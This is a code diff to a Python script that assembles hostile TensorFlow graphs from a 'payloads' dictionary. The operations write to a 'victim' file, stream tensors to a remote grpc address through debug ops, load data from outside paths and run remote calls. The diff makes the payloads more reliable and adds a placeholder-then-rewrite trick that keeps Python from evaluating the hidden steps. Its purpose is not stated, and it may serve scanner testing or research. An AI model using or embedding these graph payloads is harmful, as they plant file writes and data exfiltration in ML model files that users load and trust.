@@ -24,6 +24,7 @@ def consume(dataset):
     return R.DatasetToSingleElement(dataset=R.TakeDataset(input_dataset=dataset, count=tf.constant(1, tf.int64), **strings), **strings)[0]
 
 
+debugged = dict(tensor_name="a:0", device_name="/job:localhost/replica:0/task:0/device:CPU:0")
 strings = dict(output_types=[tf.string], output_shapes=[[]])
 
 
@@ -112,13 +113,13 @@ payloads = {
     "load_dataset": lambda: consume(R.LoadDataset(path=outside, reader_func_other_args=[], reader_func=function_of(lambda: tf.constant(0)), **strings)),
     "to_record": lambda: writing(lines()),
     "dataset_of_graph": from_graph,
-    "debug_identity": lambda: R.DebugIdentity(input=tf.constant([1.0]), debug_urls=["file://" + victim]),
-    "debug_identity_grpc": lambda: R.DebugIdentity(input=tf.constant([1.0]), debug_urls=["grpc://" + address]),
+    "debug_identity": lambda: R.DebugIdentity(input=tf.constant([1.0]), debug_urls=["file://" + victim], **debugged),
+    "debug_identity_grpc": lambda: R.DebugIdentity(input=tf.constant([1.0]), debug_urls=["grpc://" + address], **debugged),
     "debug_identity_v2": lambda: R.DebugIdentityV2(input=tf.constant([1.0]), tensor_debug_mode=2, debug_urls=["file://" + victim], tfdbg_run_id="r", circular_buffer_size=0),
-    "debug_identity_v3": lambda: R.DebugIdentityV3(input=tf.constant([1.0]), debug_urls=["file://" + victim]),
-    "debug_nan_count": lambda: R.DebugNanCount(input=tf.constant([1.0]), debug_urls=["file://" + victim]),
-    "debug_nan_count_grpc": lambda: R.DebugNanCount(input=tf.constant([1.0]), debug_urls=["grpc://" + address]),
-    "debug_summary": lambda: R.DebugNumericSummary(input=tf.constant([1.0]), debug_urls=["file://" + victim]),
+    "debug_identity_v3": lambda: R.DebugIdentityV3(input=tf.constant([1.0]), debug_urls=["file://" + victim], **debugged),
+    "debug_nan_count": lambda: R.DebugNanCount(input=tf.constant([1.0]), debug_urls=["file://" + victim], **debugged),
+    "debug_nan_count_grpc": lambda: R.DebugNanCount(input=tf.constant([1.0]), debug_urls=["grpc://" + address], **debugged),
+    "debug_summary": lambda: R.DebugNumericSummary(input=tf.constant([1.0]), debug_urls=["file://" + victim], **debugged),
     "print_v2": lambda: R.PrintV2(input="x", output_stream="file://" + victim),
     "summary_file": summary_file,
     "summary_db": summary_db,
@@ -135,7 +136,7 @@ payloads = {
     "unstage": lambda: R.Unstage(dtypes=[tf.string], shared_name="s")[0],
     "map_unstage": lambda: R.MapUnstage(key=i64(1), indices=[0], dtypes=[tf.string], shared_name="m")[0],
     "dequeue": queue_get,
-    "barrier": lambda: R.BarrierTakeMany(handle=R.Barrier(component_types=[tf.string]), num_elements=1, component_types=[tf.string]).indices,
+    "barrier": lambda: R.BarrierTakeMany(handle=R.Barrier(component_types=[tf.string], shapes=[[]]), num_elements=1, component_types=[tf.string]).indices,
     "accumulator": lambda: R.ResourceAccumulatorTakeGradient(handle=R.ResourceConditionalAccumulator(dtype=tf.float32, shape=[]), num_required=1, dtype=tf.float32),
     "collective": lambda: R.CollectiveReduce(input=tf.constant([1.0]), group_size=2, group_key=1, instance_key=1, merge_op="Add", final_op="Id", subdiv_offsets=[0]),
     "remote_call": lambda: R.RemoteCall(target="/job:localhost/replica:0/task:0/device:CPU:0", args=[tf.constant(1)], Tout=[tf.int32], f=function_of(lambda: R.WriteFile(filename=victim, contents="x"), tf.TensorSpec([], tf.int32)))[0],
@@ -165,6 +166,8 @@ def iterator():
 
 def after(x):
     """Returns a number that needs an operation or a tensor."""
+    if isinstance(x, tf.Tensor) and x.dtype in (tf.string, tf.int32, tf.int64, tf.float32, tf.float64, tf.uint8):
+        return 1 + 0 * tf.reduce_sum(number(x))  # a control input of an op without a state is dropped
     with tf.control_dependencies([x] if x is not None else []):
         return tf.constant(1)
 
@@ -210,6 +213,7 @@ def all_nested(build):
 
 
 def number(x):
+    x = R.PlaceholderWithDefault(input=x, shape=None, name="hold")  # so that Python does not evaluate it; see release
     if x.dtype == tf.string:
         return tf.cast(tf.strings.length(tf.reshape(x, [-1])), tf.int32)
     return tf.cast(tf.reshape(x, [-1]), tf.int32)
@@ -261,6 +265,7 @@ def write(name, sm):
 
 
 def merge(mg, gd):
+    release(gd)
     mg.graph_def.node.extend(gd.node)
     mg.graph_def.library.MergeFrom(gd.library)
     mg.meta_info_def.ClearField("stripped_op_list")
@@ -272,6 +277,16 @@ def nodes(where, build):
         x = where(build)
     x = x if isinstance(x, tf.Operation) else x.op
     return g.as_graph_def(), x.name
+
+
+def release(gd):
+    """Makes an Identity of each node that kept Python from evaluating what is before it."""
+    for n in [*gd.node, *(n for f in gd.library.function for n in f.node_def)]:
+        if n.op == "PlaceholderWithDefault" and n.name.split("/")[-1].startswith("hold"):
+            dtype = n.attr["dtype"].type
+            n.op = "Identity"
+            n.attr.clear()
+            n.attr["T"].type = dtype
 
 
 def node(mg, name):
